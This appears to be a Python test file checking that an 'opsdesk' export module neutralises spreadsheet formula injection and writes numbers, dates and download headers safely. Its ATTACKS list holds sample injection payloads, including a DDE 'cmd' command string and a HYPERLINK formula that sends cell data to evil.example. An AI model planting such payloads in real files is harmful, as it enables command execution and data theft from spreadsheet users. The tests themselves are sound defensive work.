"""Files for spreadsheets: nothing is computed, and what is read back is what was written."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from opsdesk import exports

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "'=1+1",
]


def csv_rows(*rows):
    with exports.csv_file(["a", "b"], rows).content as content:
        text = content.read().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


def sheet_of(header, *rows):
    with exports.xlsx_file(header, rows, "Sheet").content as content:
        return load_workbook(io.BytesIO(content.read())).active


@pytest.mark.parametrize("start", STARTS)
def test_text_like_a_formula_is_shown_and_not_computed(start):
    assert exports.neutralised(f"{start}1+1").startswith("'")


@pytest.mark.parametrize("text", ["12.50", "a=b", "O'Neill", "'tis", "", "世纪大道 100 号", " =1"])
def test_plain_text_stays_as_it_is(text):
    assert exports.neutralised(text) == text


@given(st.text(alphabet=st.sampled_from([*STARTS, "'", "1", "a", ","]), max_size=6))
def test_what_is_read_back_is_what_was_written(text):
    assert exports.restored(exports.neutralised(text)) == text
    assert not exports.neutralised(text).startswith(tuple(STARTS))


def test_numbers_are_numbers_negative_ones_too():
    ((amount, count),) = csv_rows([Decimal("-12.50"), -3])

    assert (amount, count) == ("-12.50", "-3")


def test_large_and_small_amounts_keep_every_digit():
    ((big, small),) = csv_rows([Decimal("1E+9"), Decimal("0.00000001")])

    assert (big, small) == ("1000000000", "0.00000001")


def test_moments_flags_and_nothing_have_one_form():
    ((at, flag), (day, nothing)) = csv_rows(
        [datetime(2026, 3, 2, 2, tzinfo=UTC), True], [date(2026, 3, 2), None]
    )

    assert (at, flag, day, nothing) == ("2026-03-02T02:00:00+00:00", "true", "2026-03-02", "")


@pytest.mark.parametrize("text", ATTACKS)
def test_a_sheet_holds_text_as_text_and_numbers_as_numbers(text):
    sheet = sheet_of(["text", "number"], [text, Decimal("-12.5")])

    cell, number = sheet["A2"], sheet["B2"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert (number.value, number.data_type) == (-12.5, "n")


def test_a_character_no_sheet_can_hold_is_left_out():
    assert sheet_of(["text"], ["a\0b\x0bc"])["A2"].value == "abc"


def test_a_big_file_is_counted_and_digested():
    file = exports.csv_file(["n"], ([number] for number in range(100_000)))

    assert file.rows == 100_000
    assert len(file.sha256) == 64
    with file.content as content:
        assert content.read().count(b"\r\n") == 100_001


@pytest.mark.django_db
def test_a_download_is_saved_and_never_shown():
    response = exports.attachment(exports.csv_file(["a"], []).content, "a.csv")

    assert response.headers["Content-Disposition"] == 'attachment; filename="a.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response.headers["Cache-Control"] == "no-store"
    response.close()
